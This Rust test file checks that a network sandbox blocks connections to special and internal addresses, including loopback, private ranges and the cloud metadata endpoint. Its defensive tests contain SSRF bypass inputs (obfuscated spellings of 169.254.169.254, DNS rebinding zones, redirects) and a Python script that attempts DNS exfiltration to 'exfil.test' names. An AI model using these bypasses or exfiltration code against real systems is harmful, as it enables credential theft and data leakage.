//! Addresses: what a name leads to, and what no name leads to.

use crate::case::{Case, Verdict, cases};
use crate::fixture::Fixture;

pub const CASES: &[Case] = cases![
    Everyone: public_names_work, names_lead_to_public_addresses_only, addresses_need_rules_of_addresses,
        a_second_answer_is_not_asked_for, redirects_lead_nowhere_else, one_good_address_of_many,
        the_addresses_of_this_machine, a_rule_names_a_special_address, decided_before_it_is_resolved,
        a_name_in_the_hosts_file, a_deny_covers_all_answers, queries_do_not_leave,
        curl_spells_addresses, the_addresses_of_the_gateway;
];

const ZONE: &str = r#"{
 "a.test": ["203.0.113.5"], "six.test": ["2001:db8::5"], "both.test": ["203.0.113.5,2001:db8::5"],
 "loop.test": ["127.0.0.1"], "loop6.test": ["::1"], "mapped.test": ["::ffff:127.0.0.1"], "any.test": ["0.0.0.0"],
 "any6.test": ["::"], "ten.test": ["10.1.2.3"], "lan.test": ["192.168.7.7"], "b.test": ["172.16.0.9"],
 "cgnat.test": ["100.64.0.7"], "meta.test": ["169.254.169.254"], "ali.test": ["100.100.100.200"],
 "link.test": ["169.254.7.7"], "multi.test": ["224.0.0.251"], "e.test": ["240.0.0.1"], "cast.test": ["255.255.255.255"],
 "own.test": ["203.0.113.2"], "own6.test": ["2001:db8:ffff::2"], "machine.test": ["127.0.1.1"],
 "nat64.test": ["64:ff9b::a9fe:a9fe"], "sixto4.test": ["2002:a9fe:a9fe::1"], "teredo.test": ["2001:0:1::5601:5601"],
 "ula.test": ["fd00:ec2::254"], "ula2.test": ["fc00::7"], "link6.test": ["fe80::7"], "site.test": ["fec0::7"],
 "compat.test": ["::127.0.0.1"], "compat2.test": ["::10.1.2.3"], "virtual.test": ["198.18.1.0"], "mapped10.test": ["::ffff:10.1.2.3"],
 "nat64local.test": ["64:ff9b:1::a9fe:a9fe"], "own_mapped.test": ["::ffff:203.0.113.2"], "translated.test": ["::ffff:0:7f00:1"],
 "mixed.test": ["10.1.2.3,203.0.113.5"],
 "rebind.test": ["203.0.113.5", "169.254.169.254"], "rebind2.test": ["169.254.169.254", "203.0.113.5"]
}"#;

const SPECIAL: &str = "loop loop6 mapped any any6 ten lan b cgnat meta ali link multi e cast own own6 machine nat64 sixto4 \
                       teredo ula ula2 link6 site compat compat2 virtual mapped10 nat64local own_mapped translated";

const GET: &str = "get() { curl -sS --max-time 6 \"$@\" || echo \"error $?\"; }; set -f;";

fn public_names_work(f: &Fixture) -> Verdict {
    let script = r#"for rule in --allow-net '--allow-net=*' --allow-net=a.test,six.test,both.test '--allow-net=**.test:80'; do
        "$ZEROBOX" $rule -- sh -c 'curl -sS --max-time 6 http://a.test http://six.test http://both.test:80/'
    done"#;
    let told = f.world(ZONE, &script.replace("$rule", "\"$rule\""))?;
    let served = |address: &str| told.outcome.text().matches(&format!("served by {address}\n")).count();
    assert!(served("203.0.113.5") >= 4 && served("2001:db8::5") >= 4, "\n{}", told.outcome);
    assert_eq!(served("203.0.113.5") + served("2001:db8::5"), 12, "\n{}", told.outcome);
    Ok(())
}

/// Whoever owns a name chooses its address: this machine, the router, the cloud's credentials.
fn names_lead_to_public_addresses_only(f: &Fixture) -> Verdict {
    let script = format!(r#"{GET} for name in {SPECIAL}; do echo "$name: $(get http://$name.test/)"; done"#);
    let inside = f.world_inside(ZONE, &["--allow-net"], &script)?;
    for name in SPECIAL.split_whitespace() {
        let expected = format!("{name}: zerobox: blocked connection to {name}.test:80");
        assert!(
            inside.outcome.text().contains(&expected)
                || inside.outcome.text().contains(&format!("{name}: error ")),
            "{name} was reached\n{}",
            inside.outcome
        );
    }
    inside.assert_nobody_heard(" tcp ");
    let bare = f.world_bare(ZONE, &script)?;
    for name in ["loop", "ten", "meta", "cgnat", "lan", "own", "nat64", "sixto4", "ula", "mapped10"] {
        assert!(bare.outcome.text().contains(&format!("{name}: served by ")), "{name}\n{}", bare.outcome);
    }
    Ok(())
}

fn addresses_need_rules_of_addresses(f: &Fixture) -> Verdict {
    let script = format!(
        r#"{GET} for host in 203.0.113.5 "[2001:db8::5]" 169.254.169.254 10.1.2.3 203.0.113.2 "[::ffff:203.0.113.5]" \
            "[64:ff9b::cb00:7105]" "[fd00:ec2::254]" 100.100.100.200 255.255.255.255; do echo "$host: $(get "http://$host/")"; done"#
    );
    let inside = |rule: &str| f.world_inside(ZONE, &[rule], &script);
    for rule in ["--allow-net", "--allow-net=*,**.test", "--allow-net=10.9.9.9"] {
        inside(rule)?.assert_nobody_heard(" tcp ");
    }
    // A wide network does not name what is special in it.
    for rule in ["--allow-net=0.0.0.0/0,::/0", "--allow-net=0.0.0.0/1,128.0.0.0/1,::/1,8000::/1"] {
        let told = inside(rule)?;
        assert_eq!(
            told.about("203.0.113.5").len(),
            4,
            "the address and its mapped form, two lines each: {:?}",
            told.log
        );
        for address in ["169.254", "10.1.2.3", "203.0.113.2", "fd00", "100.100", "255.255"] {
            told.assert_nobody_heard(&format!("tcp {address}"));
        }
    }
    let bare = f.world_bare(ZONE, &script)?;
    for address in ["169.254.169.254", "10.1.2.3", "203.0.113.2", "203.0.113.5", "2001:db8::5"] {
        assert!(!bare.about(address).is_empty(), "{address} {}", bare.outcome);
    }
    Ok(())
}

/// The address that was looked at is the one that is connected.
fn a_second_answer_is_not_asked_for(f: &Fixture) -> Verdict {
    let script = r#"curl -sS --max-time 5 http://rebind.test/ http://rebind.test/; sleep 6; \
                    curl -sS --max-time 5 http://rebind.test/; sleep 0.1; curl -sS --max-time 5 http://rebind2.test/"#;
    let told = f.world_inside(ZONE, &["--allow-net"], script)?;
    assert!(told.outcome.text().contains("served by 203.0.113.5"), "\n{}", told.outcome);
    told.assert_nobody_heard("tcp 169.254.169.254");
    let bare = f.world_bare(ZONE, script)?;
    assert!(!bare.about("tcp 169.254.169.254").is_empty(), "\n{}", bare.outcome);
    Ok(())
}

fn redirects_lead_nowhere_else(f: &Fixture) -> Verdict {
    let script = format!(
        r#"{GET} for to in 169.254.169.254 127.0.0.1 localhost 10.1.2.3 meta.test loop.test 203.0.113.2 "[::1]" 0; do
            get -L "http://a.test/to/http://$to/"; done"#
    );
    let told = f.world_inside(ZONE, &["--allow-net"], &script)?;
    assert_eq!(told.about("/to/").len(), 9, "{:?}", told.log);
    assert_eq!(told.about(" tcp ").len(), told.about("tcp 203.0.113.5").len(), "{:?}", told.log);
    let bare = f.world_bare(ZONE, &script)?;
    assert!(!bare.about("tcp 169.254.169.254").is_empty() && !bare.about("own tcp 127.0.0.1").is_empty());
    Ok(())
}

/// A name with a good and a bad address leads to the good one.
fn one_good_address_of_many(f: &Fixture) -> Verdict {
    let told = f.world(ZONE, "\"$ZEROBOX\" --allow-net -- curl -sS --max-time 5 http://mixed.test/")?;
    assert!(told.outcome.text().contains("served by 203.0.113.5"), "\n{}", told.outcome);
    told.assert_nobody_heard("tcp 10.1.2.3");
    Ok(())
}

/// A server of the host that listens on every address is not a server of the Internet.
fn the_addresses_of_this_machine(f: &Fixture) -> Verdict {
    let script = format!(
        r#"{GET} for host in 203.0.113.2 own.test "[2001:db8:ffff::2]" own6.test 127.0.0.1 localhost "[::1]" 127.0.1.1 0.0.0.0 "[::]" \
            "[::ffff:127.0.0.1]" machine 127.0.0.254; do get "http://$host:8080/"; done"#
    );
    for rule in ["--allow-net", "--allow-net=own.test,own6.test,machine", "--allow-net=192.0.0.0/2,2000::/3"]
    {
        let told = f.world_inside(ZONE, &[rule], &script)?;
        told.assert_nobody_heard("own tcp");
    }
    let told =
        f.world(ZONE, "\"$ZEROBOX\" --allow-net=203.0.113.2:8080 -- curl -sS http://203.0.113.2:8080/")?;
    assert!(told.outcome.text().contains("served by 203.0.113.2"), "\n{}", told.outcome);
    let bare = f.world_bare(ZONE, &script)?;
    assert!(bare.about("own tcp").len() >= 20, "{:?}", bare.log);
    Ok(())
}

fn a_rule_names_a_special_address(f: &Fixture) -> Verdict {
    let run = |rule: &str, url: &str| {
        f.world(ZONE, &format!("\"$ZEROBOX\" '--allow-net={rule}' -- curl -sS --max-time 5 '{url}'"))
    };
    for (rule, url, address) in [
        ("10.0.0.0/8", "http://10.1.2.3/", "10.1.2.3"),
        ("ten.test,10.0.0.0/8", "http://ten.test/", "10.1.2.3"),
        ("meta.test,169.254.169.254", "http://meta.test/", "169.254.169.254"),
        ("169.254.169.254:80", "http://0xa9fea9fe/", "169.254.169.254"),
    ] {
        let told = run(rule, url)?;
        assert!(
            told.outcome.text().contains(&format!("served by {address}")),
            "{rule} {url}\n{}",
            told.outcome
        );
    }
    for (rule, url) in [
        ("ten.test,10.2.0.0/16", "http://ten.test/"),
        ("ten.test:80,10.0.0.0/8:81", "http://ten.test/"),
        ("10.0.0.0/8", "http://ten.test/"),
        ("168.0.0.0/6,169.0.0.0/8", "http://169.254.169.254/"),
    ] {
        run(rule, url)?.assert_nobody_heard(" tcp ");
    }
    Ok(())
}

/// OpenShell 1169: a name that is denied must not be resolved, as the question alone tells somebody something.
fn decided_before_it_is_resolved(f: &Fixture) -> Verdict {
    let script = format!(
        r#"{GET} get http://secret.denied.test/; get -x http://198.18.0.1:3128 http://secret.denied.test/; \
            get -p -x http://198.18.0.1:3128 http://secret.denied.test/; get -x socks5h://198.18.0.1:1080 http://secret.denied.test/; \
            get http://a.test/"#
    );
    for rules in [
        &["--allow-net=a.test"][..],
        &["--allow-net", "--deny-net=**.denied.test,*.denied.test"],
        &["--allow-net=a.test,secret.denied.test:81"],
    ] {
        let told = f.world_inside(ZONE, rules, &script)?;
        told.assert_nobody_heard("denied.test");
        assert!(!told.about("dns a.test").is_empty(), "{rules:?} {:?}\n{}", told.log, told.outcome);
    }
    let bare = f.world_bare(ZONE, &script)?;
    assert!(!bare.about("dns secret.denied.test").is_empty());
    Ok(())
}

/// The host's own resolver is asked, so its files count; but not for what they make of a name.
fn a_name_in_the_hosts_file(f: &Fixture) -> Verdict {
    let script = r#"cat >> "$HOSTS" <<END
203.0.113.77 intern.test
127.0.0.1 sneaky.test
END
"$ZEROBOX" --allow-net=intern.test,sneaky.test -- sh -c 'curl -sS --max-time 5 http://intern.test/ http://sneaky.test/'"#;
    let told = f.world(ZONE, script)?;
    assert!(told.outcome.text().contains("served by 203.0.113.77"), "\n{}", told.outcome);
    told.assert_nobody_heard("own tcp");
    // The machine's file says something else a moment later.
    let script = r#"echo "203.0.113.77 turn.test" >> "$HOSTS"
( sleep 1; sed -i.bak s/203.0.113.77/127.0.0.1/ /dev/null; sed 's/203.0.113.77/127.0.0.1/' "$HOSTS" > /tmp/h.$$; cat /tmp/h.$$ > "$HOSTS"; rm /tmp/h.$$ ) &
"$ZEROBOX" --allow-net=turn.test -- sh -c 'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do curl -sS --max-time 5 http://turn.test/; sleep 0.6; done'
curl -sS --max-time 5 http://turn.test/"#;
    let told = f.world(ZONE, script)?;
    assert_eq!(
        told.about("own tcp 127.0.0.1").len(),
        2,
        "only the one without the sandbox: {:?}\n{}",
        told.log,
        told.outcome
    );
    assert!(!told.about("tcp 203.0.113.77").is_empty());
    Ok(())
}

fn a_deny_covers_all_answers(f: &Fixture) -> Verdict {
    let script = "curl -sS --max-time 5 http://both.test/ http://a.test/ http://six.test/";
    let told = f.world_inside(ZONE, &["--allow-net", "--deny-net=203.0.113.0/24"], script)?;
    told.assert_nobody_heard("tcp 203.0.113");
    assert!(told.outcome.text().contains("served by 2001:db8::5"), "\n{}", told.outcome);
    assert!(!f.world_bare(ZONE, script)?.about("tcp 203.0.113.5").is_empty());
    Ok(())
}

/// CVE-2025-55284: data leaves by the names that are asked for, whoever is asked.
fn queries_do_not_leave(f: &Fixture) -> Verdict {
    let script = r#"
import socket, struct
def query(name, kind=1):
    q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return b'\x12\x34\1\0\0\1\0\0\0\0\0\0' + q + struct.pack('!HH', kind, 1)
for server in ['10.255.255.53', '8.8.8.8', '203.0.113.1', '198.18.0.1', '127.0.0.53', '2001:db8::53']:
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    for port in (53, 5353):
        try:
            s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.connect((server, port))
            s.send(query('leak-udp.exfil.test')); s.send(query('leak-udp.a.test', 16)); s.recv(512)
        except OSError: pass
    for port in (53, 853, 443):
        try:
            s = socket.create_connection((server, port), 2); q = query('leak-tcp.exfil.test')
            s.sendall(struct.pack('!H', len(q)) + q); s.recv(512)
        except OSError: pass
for name in ['leak-libc.exfil.test', 'leak.a.test', 'x.leak.local', 'leak.localhost', 'leak']:
    for f in (lambda: socket.getaddrinfo(name, 80), lambda: socket.gethostbyname(name)):
        try: f()
        except OSError: pass
print('done')
"#;
    f.write("project/ask.py", script);
    for rule in ["--allow-net=a.test", "--allow-net=*"] {
        let told = f.world(ZONE, &format!("\"$ZEROBOX\" '{rule}' -- /usr/bin/python3 ask.py"))?;
        assert!(told.outcome.text().contains("done"), "\n{}", told.outcome);
        told.assert_nobody_heard("leak");
        told.assert_nobody_heard("dns");
    }
    let bare = f.world(ZONE, "/usr/bin/python3 ask.py")?;
    assert!(bare.about("leak").len() > 6, "{:?}", bare.log);
    Ok(())
}

fn curl_spells_addresses(f: &Fixture) -> Verdict {
    let script = format!(
        r#"{GET} for host in 169.254.169.254 2852039166 0xa9fea9fe 0251.0376.0251.0376 0xa9.0xfe.0xa9.0xfe 169.254.43518 169.16689662 \
            "[::ffff:a9fe:a9fe]" "[::ffff:169.254.169.254]" "[64:ff9b::169.254.169.254]" "[2002:a9fe:a9fe::]" "[::169.254.169.254]" \
            169.254.169.254. "%31%36%39.254.169.254" "①⑥⑨.254.169.254" "169。254。169。254" 169.254.169.254.nip.test; do
            get "http://$host/latest/meta-data/"; get -x http://198.18.0.1:3128 "http://$host/latest/meta-data/";
            get -p -x http://198.18.0.1:3128 "http://$host/latest/meta-data/"; get -x socks5h://198.18.0.1 "http://$host/latest/meta-data/"; done"#
    );
    let zone = ZONE.replacen('{', "{\"169.254.169.254.nip.test\": [\"169.254.169.254\"],", 1);
    for rule in ["--allow-net", "--allow-net=*,0.0.0.0/0,::/0"] {
        let told = f.world_inside(&zone, &[rule], &script)?;
        told.assert_nobody_heard("meta-data");
    }
    let bare = f.world_bare(
        &zone,
        &script.replace("-x http://198.18.0.1:3128", "").replace("-x socks5h://198.18.0.1", ""),
    )?;
    assert!(bare.about("tcp 169.254.169.254").len() >= 9, "{:?}", bare.log);
    Ok(())
}

/// The addresses that stand for names are those of hosts outside of the sandbox, if of anybody's.
fn the_addresses_of_the_gateway(f: &Fixture) -> Verdict {
    let script = format!(
        r#"{GET} for host in 198.18.0.1 198.18.0.2 198.18.1.0 198.19.255.255 "[fd5a:7265:626f:7800::1]" \
            "[fd5a:7265:626f:7800::c612:100]"; do get http://$host/; get http://$host:53/; get -x socks5h://198.18.0.1 http://$host/; done"#
    );
    for rule in ["--allow-net", "--allow-net=a.test"] {
        let told = f.world_inside(ZONE, &[rule], &script)?;
        told.assert_nobody_heard(" tcp ");
    }
    Ok(())
}
